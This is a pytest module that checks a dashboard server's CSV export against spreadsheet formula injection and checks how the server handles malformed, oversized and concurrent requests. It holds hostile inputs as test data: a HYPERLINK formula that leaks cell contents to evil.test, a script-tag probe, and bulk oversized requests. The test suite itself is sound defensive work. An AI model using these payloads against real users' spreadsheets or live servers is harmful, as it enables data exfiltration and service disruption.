"""The CSV export and the dashboard's error paths: no cell a spreadsheet runs as a formula,
numbers stay numbers, and any malformed, extreme or oversized request gets one clear 400
(or 414) page with the security headers, never a traceback; the server keeps serving.

One `writevue serve` process serves the whole module.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import socket
import time
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import polars as pl
import pytest
from support import add_tenant_with_facts, home_runtime, start_dashboard_server

from dashboard_server.app import Dashboard
from dashboard_server.data import (
    MAX_DAYS,
    Period,
    PeriodError,
    dashboard_csv,
    load_dashboard,
    oldest_day,
)
from dashboard_server.tenant_data import TenantData
from writevue_pipelines import links
from writevue_pipelines.runtime import Runtime
from writevue_pipelines.spreadsheet import FORMULA_START

TODAY = dt.datetime.now(dt.UTC).date()
#: text a spreadsheet would run as a formula (or that tries to break out of its cell)
HOSTILE = (
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    " =1+1",
    '=1+2";=1+2',
    "a;=1+2",
    "b,=1+2",
    "\uff1d1+1",  # a full-width equals sign
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SECURITY_HEADERS = {
    "referrer-policy": "no-referrer",
    "x-robots-tag": "noindex, nofollow",
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
}


def hostile_facts() -> pl.DataFrame:
    """One day of figures whose metric or dimension is hostile text, and a negative value."""
    rows = [("charges", "", -12.5), ("refunds", "usd", 3.0)]
    rows += [(f"m{index}", value, float(index)) for index, value in enumerate(HOSTILE)]
    rows += [(value[:60], "", 1.0) for value in HOSTILE]
    return pl.DataFrame(
        {
            "metric": [m for m, _, _ in rows],
            "dimension": [d for _, d, _ in rows],
            "day": [TODAY] * len(rows),
            "value": [v for _, _, v in rows],
        }
    )


@dataclass
class Served:
    runtime: Runtime
    base: str
    log: Path
    tenant_id: str
    token: str

    def url(self, query: str = "", token: str | None = None) -> str:
        return f"{self.base}/d/{token or self.token}{query}"


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    root = tmp_path_factory.mktemp("export")
    runtime = home_runtime(root)
    settings = runtime.settings
    tenant_id, _ = add_tenant_with_facts(runtime, "Formula Co", hostile_facts())
    with runtime.db.session() as session:
        _, token = links.create_link(session, tenant_id)
    log = root / "serve.log"
    server, base = start_dashboard_server(settings.home, log)
    try:
        yield Served(runtime, base, log, tenant_id, token)
    finally:
        server.stop()
        runtime.close()


def assert_no_traceback(log: Path) -> None:
    time.sleep(0.3)  # the server writes its log asynchronously
    text = log.read_text(errors="replace")
    for sign in ("Traceback", "Uncaught exception", "OverflowError", "Error handling"):
        assert sign not in text, text[-3000:]


# -- formula injection ----------------------------------------------------------------------


def csv_rows(text: str) -> tuple[list[str], list[list]]:
    """The header and rows, read as a spreadsheet-minded reader: unquoted cells are numbers."""
    header, *rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    return header, rows


def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(served):
    response = httpx.get(served.url(f"?format=csv&from={TODAY}&to={TODAY}"))
    assert response.status_code == 200
    header, rows = csv_rows(response.text)
    assert header == ["day", "source", "metric", "label", "dimension", "kind", "partial", "value"]
    assert len(rows) == 2 + 2 * len(HOSTILE)
    for row in rows:
        *texts, value = row
        assert all(isinstance(cell, str) for cell in texts), row  # every text cell is quoted
        assert isinstance(value, float), row  # the one numeric column is a bare number
        for cell in texts:
            assert not cell.startswith(TRIGGERS), row
            assert not FORMULA_START.match(cell), row
    # The hostile text is all there, each neutralised by a leading quote, nothing dropped.
    dimensions = {row[4] for row in rows}
    assert {"'" + value for value in HOSTILE if value[0] in "=+-@\t\r \uff1d"} <= dimensions
    assert {"a;=1+2", "b,=1+2"} <= dimensions  # quoted whole, so no separator splits them
    metrics = {row[2] for row in rows}
    assert "'" + HOSTILE[0][:60] in metrics and "charges" in metrics
    # An embedded quote is doubled inside a quoted field: the cell cannot break out.
    assert '"\'=1+2"";=1+2"' in response.text
    # A negative figure is written as the number it is.
    assert re.search(
        r'^"[0-9-]+","stripe","charges","[^"]+","","counter","true",-12\.5$', response.text, re.M
    )
    assert [r[7] for r in rows if r[2] == "charges"] == [-12.5]

    # Every figure the test inserted, once, with its value: read back from the CSV, with
    # the neutralising quote taken off again (no inserted text starts with one).
    def unquoted(cell: str) -> str:
        return cell[1:] if cell.startswith("'") else cell

    exported = sorted(
        (day, unquoted(m), unquoted(d), v) for day, _src, m, _label, d, _kind, _part, v in rows
    )
    inserted = sorted((str(day), m, d, v) for m, d, day, v in hostile_facts().iter_rows())
    assert exported == inserted


def test_the_label_column_is_neutralised_like_every_other_text_cell(served):
    data = load_dashboard(served.runtime, served.tenant_id, period=Period(TODAY, TODAY))
    _, rows = csv_rows(dashboard_csv(data))
    labels = [row[3] for row in rows]
    assert any(label.startswith("'") for label in labels)
    assert not any(label.startswith(TRIGGERS) for label in labels)


# -- malformed, extreme and oversized parameters ---------------------------------------------

WEEK = f"from={TODAY - dt.timedelta(days=6)}&to={TODAY}"
BAD_QUERIES = {
    "year one": "?format=csv&from=0001-01-01&to=0001-01-01",
    "year 9999": "?format=csv&from=9999-12-31&to=9999-12-31",
    "all of time": "?format=csv&from=0001-01-01&to=9999-12-31",
    "far past": f"?format=csv&from={TODAY.replace(year=TODAY.year - 30)}&to={TODAY}",
    "far future": f"?format=csv&from={TODAY}&to={TODAY + dt.timedelta(days=400)}",
    "ends before it starts": f"?format=csv&from={TODAY}&to={TODAY - dt.timedelta(days=5)}",
    "too long a period": f"?format=csv&from={TODAY - dt.timedelta(days=MAX_DAYS)}&to={TODAY}",
    "a word for a day": "?format=csv&from=yesterday&to=today",
    "month 13": "?format=csv&from=2026-13-01&to=2026-13-02",
    "30 February": "?format=csv&from=2026-02-30&to=2026-03-01",
    "compact ISO": "?format=csv&from=20260101&to=20260102",
    "ISO week": "?format=csv&from=2026-W01-1&to=2026-W01-2",
    "empty days": "?format=csv&from=&to=",
    "no days": "?format=csv",
    "no end": f"?format=csv&from={TODAY}",
    "script for a day": "?format=csv&from=<script>alert(1)</script>&to=2026-01-01",
    "repeated format": f"?format=csv&format=csv&{WEEK}",
    "repeated from": f"?format=csv&{WEEK}&from={TODAY}",
    "repeated to": f"?format=csv&{WEEK}&to={TODAY}",
    "unknown format": f"?format=xlsx&{WEEK}",
    "format in capitals": f"?format=CSV&{WEEK}",
    "empty format": f"?format=&{WEEK}",
    "format with a NUL": f"?format=csv%00&{WEEK}",
    "non-UTF-8 day": "?format=csv&from=%ff%fe&to=2026-01-01",
    "non-UTF-8 format": f"?format=%c3%28&{WEEK}",
    "non-UTF-8 name": f"?format=csv&{WEEK}&%ff=1",
    "overlong UTF-8": f"?format=csv&from=%c0%b2026-01-01&to={TODAY}",
    "very long day": f"?format=csv&from={'2' * 4000}&to={TODAY}",
    "very long tail": f"?format=csv&from={TODAY}&to={TODAY}{'0' * 3000}",
    # the page's own parameters
    "page: year one": "?from=0001-01-01&to=0001-01-01",
    "page: tv word": "?tv=banana",
    "page: tv twice": "?tv=1&tv=1",
    "page: non-UTF-8 tv": "?tv=%ff",
    "page: non-UTF-8 name": "?%ff%fe=1",
    "page: very long tv": f"?tv={'1' * 5000}",
    "page: too many parameters": "?" + "&".join(f"p{n}=1" for n in range(100)),
}


def assert_product_page(response: httpx.Response, status: int) -> None:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("text/html")
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, name
    csp = response.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp
    body = response.text
    assert body.startswith("<!doctype html>") and "<h1>" in body
    for word in ("traceback", "tornado", "bokeh", "panel", "exception", "<script"):
        assert word not in body.lower()


@pytest.mark.parametrize("query", BAD_QUERIES.values(), ids=BAD_QUERIES.keys())
def test_a_malformed_or_extreme_parameter_gets_the_400_page(served, query):
    response = httpx.get(served.url(query))
    assert_product_page(response, 400)
    assert served.token not in response.text


def test_no_bad_parameter_left_a_traceback_and_the_server_still_serves(served):
    for query in BAD_QUERIES.values():
        assert httpx.get(served.url(query)).status_code == 400
    assert httpx.get(served.url(f"?format=csv&{WEEK}")).status_code == 200
    assert httpx.get(served.url()).status_code == 200
    assert_no_traceback(served.log)


GOOD_QUERIES = {
    "a week": f"?format=csv&{WEEK}",
    "one day": f"?format=csv&from={TODAY}&to={TODAY}",
    "the longest period": (
        f"?format=csv&from={TODAY - dt.timedelta(days=MAX_DAYS - 1)}&to={TODAY}"
    ),
    "ahead of UTC": f"?format=csv&from={TODAY}&to={TODAY + dt.timedelta(days=1)}",
    "extra parameter": f"?format=csv&{WEEK}&utm_source=mail",
}


@pytest.mark.parametrize("query", GOOD_QUERIES.values(), ids=GOOD_QUERIES.keys())
def test_a_good_export_still_downloads(served, query):
    response = httpx.get(served.url(query))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")


@pytest.mark.parametrize("query", ["", "?tv=1", "?tv=0", "?tv=", "?utm_source=mail"])
def test_the_page_opens_with_its_own_good_parameters(served, query):
    response = httpx.get(served.url(query))
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/html")


def test_an_unknown_token_with_a_bad_query_still_gets_the_404_page(served):
    response = httpx.get(served.url("?format=csv&from=0001-01-01&to=0001-01-01", "Z" * 43))
    assert response.status_code == 404


def test_a_long_address_gets_the_414_page(served):
    for url in (
        served.url(f"?format=csv&{WEEK}&pad={'x' * 9000}"),
        served.url(f"?tv={'1' * 20_000}"),
        f"{served.base}/robots.txt?{'y' * 30_000}",
        f"{served.base}/assets/{'z' * 20_000}.css",
    ):
        assert_product_page(httpx.get(url), 414)
    assert httpx.get(f"{served.base}/robots.txt").status_code == 200
    time.sleep(0.3)
    lines = served.log.read_text().splitlines()
    assert [line for line in lines if " 414 GET " in line]
    assert max(len(line) for line in lines) < 1000  # a long address makes no long log line


# -- requests too large for the server to read -------------------------------------------------


def raw_exchange(base: str, request: bytes, timeout: float = 10.0) -> bytes:
    """Send ``request`` over a plain socket, then read the answer until the server closes."""
    parts = urlsplit(base)
    with socket.create_connection((parts.hostname, parts.port), timeout=timeout) as sock:
        try:
            sock.sendall(request)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server answered and closed before reading all of it
        received = b""
        while True:
            try:
                chunk = sock.recv(65536)
            except ConnectionResetError:
                break
            if not chunk:
                break
            received += chunk
    return received


def parse_response(raw: bytes) -> tuple[int, dict[str, str], bytes]:
    head, _, body = raw.partition(b"\r\n\r\n")
    status_line, *lines = head.decode("latin-1").split("\r\n")
    headers = {}
    for line in lines:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return int(status_line.split()[1]), headers, body


@pytest.mark.parametrize("size", [70 * 1024, 1024 * 1024], ids=["70 KiB", "1 MiB"])
@pytest.mark.parametrize("where", ["export", "robots"])
def test_a_query_too_large_to_read_gets_414_and_the_server_keeps_serving(served, size, where):
    path = f"/d/{served.token}?format=csv&{WEEK}&pad=" if where == "export" else "/robots.txt?"
    target = path.encode() + b"q" * size
    request = b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    raw = raw_exchange(served.base, request)
    assert raw, "the server closed the connection without a response"
    status, headers, body = parse_response(raw)
    assert status in (414, 431)
    for name, value in SECURITY_HEADERS.items():
        assert headers.get(name) == value, name
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["content-type"].startswith("text/html")
    assert headers.get("connection", "").lower() == "close"
    assert body.startswith(b"<!doctype html>") and b"<h1>" in body
    assert int(headers["content-length"]) == len(body)
    assert httpx.get(f"{served.base}/robots.txt").status_code == 200
    assert httpx.get(served.url(f"?format=csv&{WEEK}")).status_code == 200


def test_headers_too_large_to_read_get_an_answer_too(served):
    request = (
        b"GET /robots.txt HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        + b"".join(b"X-Pad-%d: %s\r\n" % (n, b"h" * 1000) for n in range(100))
        + b"\r\n"
    )
    status, headers, _ = parse_response(raw_exchange(served.base, request))
    assert status in (414, 431) and headers["x-robots-tag"] == "noindex, nofollow"
    assert httpx.get(f"{served.base}/robots.txt").status_code == 200


def test_many_oversized_requests_at_once_leave_the_server_serving(served):
    import concurrent.futures

    request = b"GET /robots.txt?" + b"q" * (200 * 1024) + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(lambda _: raw_exchange(served.base, request), range(16)))
    assert all(parse_response(raw)[0] == 414 for raw in answers)
    assert httpx.get(f"{served.base}/robots.txt").status_code == 200
    assert_no_traceback(served.log)


def test_a_client_that_keeps_sending_is_cut_off_after_its_answer(served):
    parts = urlsplit(served.base)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
        sock.sendall(b"GET /robots.txt?" + b"q" * (70 * 1024))
        answer = sock.recv(65536)
        assert answer.startswith(b"HTTP/1.1 414 ")
        started, cut_off = time.monotonic(), False
        while time.monotonic() - started < 10:
            try:
                sock.sendall(b"q" * 4096)
            except (BrokenPipeError, ConnectionResetError):
                cut_off = True
                break
            time.sleep(0.05)
        assert cut_off and time.monotonic() - started < 5


def test_a_raw_non_utf8_byte_in_the_query_gets_the_400_page(served):
    request = (
        b"GET /d/" + served.token.encode() + b"?format=csv&from=\xff\xfe&to=2026-01-01 HTTP/1.1\r\n"
        b"Host: 127.0.0.1\r\nConnection: close\r\n\r\n"
    )
    status, headers, body = parse_response(raw_exchange(served.base, request))
    assert status == 400 and headers["cache-control"] == "no-store" and b"<h1>" in body


@pytest.mark.parametrize(
    "request_head",
    [
        b"GET /d/x?from=a b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /robots.txt HTTP/1.1\r\nHost: 127.0.0.1\r\nnot a header\r\n\r\n",
        b"GET /robots.txt HTTP/7.0\r\nHost: 127.0.0.1\r\n\r\n",
    ],
    ids=["space in the address", "malformed header", "unknown version"],
)
def test_a_request_tornado_cannot_parse_gets_the_400_page(served, request_head):
    status, headers, body = parse_response(raw_exchange(served.base, request_head))
    assert status == 400 and headers["x-frame-options"] == "DENY"
    assert headers["content-type"].startswith("text/html") and b"<h1>" in body
    assert httpx.get(f"{served.base}/robots.txt").status_code == 200


# -- periods in the view ------------------------------------------------------------------------


def test_a_period_is_read_strictly_and_says_what_is_wrong():
    assert Period.parse(str(TODAY - dt.timedelta(days=6)), str(TODAY), TODAY) == Period(
        TODAY - dt.timedelta(days=6), TODAY
    )
    for start, end, words in (
        ("0001-01-01", "0001-01-01", "between"),
        ("9999-12-31", "9999-12-31", "between"),
        (str(TODAY), str(TODAY - dt.timedelta(days=1)), "before"),
        (str(TODAY - dt.timedelta(days=MAX_DAYS)), str(TODAY), f"{MAX_DAYS} days"),
        ("20260101", str(TODAY), "YYYY-MM-DD"),
        ("", str(TODAY), "YYYY-MM-DD"),
    ):
        with pytest.raises(PeriodError, match=words):
            Period.parse(start, end, TODAY)


@pytest.mark.parametrize(
    "start, end",
    [
        (dt.date(1, 1, 1), dt.date(1, 1, 1)),
        (dt.date(9999, 12, 31), dt.date(9999, 12, 31)),
        (dt.date(1, 1, 1), dt.date(9999, 12, 31)),
        (dt.date(9999, 12, 31), dt.date(1, 1, 1)),
    ],
)
def test_any_custom_range_from_the_picker_becomes_a_period_the_view_can_show(start, end):
    period = Period.between(start, end, TODAY)
    assert oldest_day(TODAY) <= period.start <= period.end <= TODAY + dt.timedelta(days=1)
    assert period.days <= MAX_DAYS
    assert period.previous_start < period.start


def test_the_view_renders_an_extreme_custom_range_without_an_error(served):
    # What a client's picker can send over the websocket, whatever the page offers.
    source = TenantData(served.runtime, served.tenant_id, lambda: True)
    view = Dashboard(source, range="custom", custom=(dt.date(1, 1, 1), dt.date(1, 1, 1)))
    assert view.period.start == oldest_day()
    view.custom = (dt.date(1, 1, 1), dt.date(9999, 12, 31))
    assert view.period.days == MAX_DAYS
    assert "wv-dashboard" in source.page(view.period, tv=False)
